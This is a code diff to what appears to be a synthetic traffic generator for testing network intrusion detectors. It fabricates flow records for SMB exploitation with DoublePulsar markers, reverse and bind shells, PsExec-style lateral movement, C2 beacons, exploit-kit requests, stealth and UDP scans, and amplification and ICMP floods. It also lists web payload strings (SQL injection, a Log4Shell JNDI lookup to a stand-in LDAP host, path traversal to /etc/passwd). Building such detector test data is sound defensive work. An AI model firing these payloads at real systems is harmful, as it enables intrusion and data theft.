@@ -269,6 +269,38 @@ def web_attack(self: Synth, attacker: str, server: str, uris: list, start_ms: in
                    http_host=["portal.bank-a.example"] * n, http_method=["GET"] * n, http_uri=list(uris))
 
 
+def marked(self: Synth, flows: list[tuple], start_ms: int, institution: str = "bank-a") -> dict:
+    """Flows with collector markers: (offset_ms, src, dst, dst_port, protocol, app_markers) each,
+    answered (a few packets both ways), 30 s long."""
+    n = len(flows)
+    first = start_ms + np.array([f[0] for f in flows], dtype=np.int64)
+    cols = _hinted(self, n, first, institution, [f[1] for f in flows], [f[2] for f in flows],
+                   np.array([f[3] for f in flows]), np.array([f[4] for f in flows]), 12, 3_000, 12, 60_000,
+                   app_markers=[f[5] for f in flows])
+    cols["last_seen_ms"] = first + 30_000
+    return cols
+
+
+def marked_attacks(self: Synth, start_ms: int, institution: str = "bank-a", net: str = "10.1") -> dict:
+    """An SMB exploit with DoublePulsar markers and the victim's callback with a downloaded stage,
+    a bind shell with a prompt, a PsExec-style service copy, an ICMP text channel, a RAT redialling."""
+    victim, attacker, handler = f"{net}.60.10", "203.0.113.45", "203.0.113.46"
+    flows = [(0, attacker, victim, 445, 6, "smb1,smb1_trans2_session_setup_from_src"),
+             (20_000, victim, handler, 4444, 6, "exe_from_dst"),
+             (25_000, attacker, f"{net}.60.11", 4444, 6, "shell_from_dst"),
+             (30_000, f"{net}.1.90", f"{net}.60.12", 445, 6, "smb2,smb_admin_share_from_src,smb_exe_write_from_src"),
+             (35_000, f"{net}.1.91", "198.51.100.99", 0, 1, "icmp_text_from_src")]
+    flows += [(40_000 + 10_000 * i, f"{net}.1.92", "198.51.100.98", 4433, 6, "") for i in range(7)]
+    flows += [(45_000, f"{net}.1.93", "198.51.100.97", 80, 6, "flash_or_java_from_dst"),
+              (50_000, f"{net}.1.93", "198.51.100.97", 80, 6, ""), (55_000, f"{net}.1.94", "198.51.100.96", 80, 6, "")]
+    cols = marked(self, flows, start_ms, institution)
+    cols["http_requests"] = [""] * (len(flows) - 3) + [
+        "GET\tek.example\t/swf/x.swf\t200\tapplication/x-shockwave-flash",
+        "GET\tek.example\t/land/a.html\t200\tapplication/octet-stream",
+        "GET\tdb54a845.top\t/c/?c=WIN-7Q2L&u=alice&v=2\t200\ttext/html\nPOST\tdb54a845.top\t/r\t200\ttext/html"]
+    return cols
+
+
 def hinted_attacks(self: Synth, start_ms: int, institution: str = "bank-a", net: str = "10.1") -> list[dict]:
     """One of each attack the hint-based detectors look for, within ~100 s from ``start_ms``."""
     return [
@@ -280,12 +312,79 @@ def hinted_attacks(self: Synth, start_ms: int, institution: str = "bank-a", net:
                      psexec=True),
         self.web_attack("203.0.113.99", f"{net}.100.80", ["/x?id=1%27%20or%201=1--", "/${jndi:ldap://e.example/a}",
                                                            "/..%2f..%2fetc%2fpasswd"], start_ms, institution=institution),
+        self.marked_attacks(start_ms, institution=institution, net=net),
     ]
 
 
-for _f in (benign_hinted, dns_tunnel, dga, beacon, exfil, icmp_tunnel, lateral, web_attack, hinted_attacks):
+for _f in (benign_hinted, dns_tunnel, dga, beacon, exfil, icmp_tunnel, lateral, web_attack, marked, marked_attacks,
+           hinted_attacks):
     setattr(Synth, _f.__name__, _f)
 
 #: Threat-intel indicators matching :func:`hinted_attacks` (the beacon's home), for detectors
 #: that need them given.
 HINTED_INDICATORS = {"addresses": ("192.0.2.66",), "domains": ("exfil-example.com",)}
+
+
+# --- scans that are not SYNs, floods by victim (probescan, reflection, volumetric) ---------------
+
+def _plain(self: Synth, n: int, first: np.ndarray, institution: str, src, dst, src_port, dst_port, proto,
+           c2s_packets, c2s_bytes, s2c_packets=0, s2c_bytes=0, c2s_flags=0, s2c_flags=0, dur_ms=0) -> dict:
+    """A column dict of ``n`` flows with scalars or arrays per column."""
+    def full(v: object) -> np.ndarray:
+        return np.broadcast_to(np.asarray(v, dtype=object if isinstance(v, str) else None), (n,)).copy()
+
+    return {"flow_id": self._ids(n), "first_seen_ms": first, "last_seen_ms": first + full(dur_ms),
+            "institution_id": [institution] * n, "protocol": full(proto), "ip_version": [4] * n,
+            "src_ip": list(full(src)), "dst_ip": list(full(dst)), "src_port": full(src_port),
+            "dst_port": full(dst_port), "src2dst_packets": full(c2s_packets), "src2dst_bytes": full(c2s_bytes),
+            "dst2src_packets": full(s2c_packets), "dst2src_bytes": full(s2c_bytes),
+            "src2dst_tcp_flags": full(c2s_flags), "dst2src_tcp_flags": full(s2c_flags)}
+
+
+def stealth_scan(self: Synth, victim: str, ports, start_ms: int, flags: int = 1, institution: str = "bank-a",
+                 attacker: str = "203.0.113.67", duration_ms: int = 2_000) -> dict:
+    """FIN (1), NULL (0), Xmas (41), ACK (16) or Maimon (17) probes; closed ports answer RST-ACK."""
+    ports = np.asarray(list(ports))
+    n = len(ports)
+    first = start_ms + np.sort(self.rng.integers(0, duration_ms, n))
+    return _plain(self, n, first, institution, attacker, victim, 45195, ports, 6, 1, 40, 1, 40, flags, 20)
+
+
+def udp_scan(self: Synth, victim: str, ports, start_ms: int, institution: str = "bank-a",
+             attacker: str = "203.0.113.68", duration_ms: int = 3_000) -> dict:
+    """One empty UDP datagram per port, no UDP answer (closed ports answer ICMP, another flow)."""
+    ports = np.asarray(list(ports))
+    n = len(ports)
+    first = start_ms + np.sort(self.rng.integers(0, duration_ms, n))
+    return _plain(self, n, first, institution, attacker, victim, 62025, ports, 17, 1, 28)
+
+
+def amplification(self: Synth, victim: str, n: int, start_ms: int, port: int = 123, size: int = 468,
+                  institution: str = "bank-a", duration_ms: int = 2_000) -> dict:
+    """Answers from ``n`` reflectors' amplifier port to the victim, one flow each, nothing back."""
+    first = start_ms + np.sort(self.rng.integers(0, duration_ms, n))
+    refl = [f"{self.rng.integers(1, 224)}.{self.rng.integers(0, 256)}.{self.rng.integers(0, 256)}.{i % 250 + 1}"
+            for i in range(n)]
+    return _plain(self, n, first, institution, refl, victim, port, self.rng.integers(1024, 65535, n), 17,
+                  3, 3 * size)
+
+
+def icmp_flood(self: Synth, victim: str, n_sources: int, start_ms: int, packets_each: int = 20,
+               institution: str = "bank-a", duration_ms: int = 1_000) -> dict:
+    """Echo requests from ``n_sources`` sources within ``duration_ms``, answered by echo replies."""
+    first = start_ms + np.sort(self.rng.integers(0, duration_ms // 2, n_sources))
+    srcs = [f"198.18.{i // 250}.{i % 250 + 1}" for i in range(n_sources)]
+    return _plain(self, n_sources, first, institution, srcs, victim, 8, 0, 1, packets_each, packets_each * 84,
+                  packets_each, packets_each * 84, dur_ms=duration_ms // 2)
+
+
+def flood_attacks(self: Synth, start_ms: int, institution: str = "bank-a", net: str = "10.1") -> list[dict]:
+    """One stealth scan, one UDP scan, one NTP amplification and one ICMP flood from ``start_ms``."""
+    return [self.stealth_scan(f"{net}.100.20", range(1, 41), start_ms, flags=41, institution=institution),
+            self.udp_scan(f"{net}.100.21", range(1000, 1040), start_ms + 5_000, institution=institution),
+            self.amplification(f"{net}.100.22", 250, start_ms + 10_000, institution=institution),
+            self.icmp_flood(f"{net}.100.23", 100, start_ms + 15_000, packets_each=40, institution=institution)]
+
+
+for _f in (stealth_scan, udp_scan, amplification, icmp_flood, flood_attacks):
+    setattr(Synth, _f.__name__, _f)
